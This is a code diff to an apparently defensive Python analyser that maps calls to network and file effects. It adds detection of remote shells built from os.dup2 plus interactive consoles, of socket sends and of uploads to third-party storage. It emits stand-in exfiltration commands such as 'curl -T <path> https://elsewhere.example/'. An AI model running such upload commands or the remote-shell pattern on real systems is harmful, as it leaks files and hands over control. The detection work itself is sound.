@@ -6,9 +6,16 @@ import re
 from collections.abc import Iterator
 from typing import TYPE_CHECKING
 
-from fairlead.shell.effects.code.act import Act
+from fairlead.shell.effects.code.act import Act, on_path
 from fairlead.shell.effects.code.python.calls.call import Call, as_word, is_elsewhere
-from fairlead.shell.effects.code.python.running.thing import HOLE, Thing, deep_origins, shown_as
+from fairlead.shell.effects.code.python.running.thing import (
+    HOLE,
+    UNKNOWN,
+    Thing,
+    deep_origins,
+    paths_of,
+    shown_as,
+)
 from fairlead.shell.effects.effect import Action
 from fairlead.shell.effects.secret_material.secret_searches import SECRET_NAME
 from fairlead.shell.lazy_pattern import lazy
@@ -34,7 +41,7 @@ _SENDING = names("post put patch request urlopen Request send get")
 _ON_CONNECTION = names(
     """
     send sendall sendto sendfile storbinary storlines sendmail send_message put write upload request publish
-    emit send_bytes
+    emit send_bytes append
     """
 )
 _LOGIN = names("headers auth cookies")
@@ -49,6 +56,11 @@ _STORING = names(
     """
 )
 """Of libraries that know themselves where their server is."""
+_NAMED_FILES = ("file", "filename", "document", "path")
+"""Keywords by which these are told which file to send."""
+_CONSOLES = names("code.interact code.InteractiveConsole pdb.set_trace IPython.embed")
+_NAMED_PATH = {"upload_file": 0, "fput_object": 2, "put_object_from_file": 1, "upload_local_file": 0}
+"""Which argument is the path of what goes to an account of someone else."""
 _UPLOADED = {"upload_file": "aws", "upload_fileobj": "aws"}
 
 
@@ -60,21 +72,47 @@ def network_acts(call: Call, run: Run) -> Iterator[Act]:
     if is_request(call):
         yield from _requested(call)
     elif call.name in _LOOKING_UP or call.name == "webbrowser.open":
-        address = call.at(0)
-        yield from _sent(address, call.hosts(address), "-d")
-        if any(kind == "machine" for kind, _ in deep_origins(address)):
-            yield Act(str(Action.SEND_DATA), name="name-lookup")
+        yield from _looked_up(call)
     elif call.name == "os.dup2" and call.given and call.given[0].peers:
         run.dup_peers = call.given[0].peers
+    elif call.name in _CONSOLES:
+        if run.dup_peers is not None and is_elsewhere(run.dup_peers):
+            yield Act(str(Action.RUN_NETWORK_CODE), name="remote-shell", text=call.name)
+    elif call.method == "sendto" and "socket" in call.name and len(call.given) > 1:
+        hosts = call.hosts(call.given[-1])
+        yield from _sent(call.given[0], hosts, "-T") if is_elsewhere(hosts) else ()
+    elif call.method in _STORING or call.method in _UPLOADED or call.method in _NAMED_PATH:
+        yield from _stored(call)
+    elif call.method in _ON_CONNECTION and call.owner.peers:
+        yield from _on_connection(call)
+
+
+def _looked_up(call: Call) -> Iterator[Act]:
+    """A name that is looked up, or an address that a browser opens, says what stands in it."""
+    address = call.at(0)
+    yield from _sent(address, call.hosts(address), "-d")
+    if any(kind == "machine" for kind, _ in deep_origins(address)):
+        yield Act(str(Action.SEND_DATA), name="name-lookup")
+    for each in address.texts:
+        if each.startswith("file://"):
+            yield on_path(Action.READ, each.removeprefix("file://"), name=call.method)
+
+
+def _stored(call: Call) -> Iterator[Act]:
+    if call.method in _NAMED_PATH and is_elsewhere(call.owner.peers):
+        for path in call.paths(_NAMED_PATH[call.method], "Filename", "file_path", "filename"):
+            yield Act("shell", f"curl -T {as_word(path)} https://{_host(call.owner.peers)}/")
     elif call.method in _UPLOADED and len(call.given) > 1:
         target = f"s3://{shown_as(call.given[1])[0]}/{shown_as(call.at(2))[0]}"
         for path in call.paths(0, "Filename"):
             yield Act("shell", f"aws s3 cp {as_word(path)} {as_word(target)}")
-    elif call.method in _STORING and not call.owner.peers:
+    elif call.owner.peers:
+        yield from _on_connection(call)
+    elif call.method in _STORING:
         for each in (*call.given, *call.named.values()):
             yield from _sent(each, (HOLE,), "-T")
-    elif call.method in _ON_CONNECTION and call.owner.peers:
-        yield from _on_connection(call)
+        for path in (path for name in _NAMED_FILES for path in paths_of(call.named.get(name, UNKNOWN))):
+            yield Act("shell", f"curl -T {as_word(path)} https://elsewhere.example/")
 
 
 def _requested(call: Call) -> Iterator[Act]:
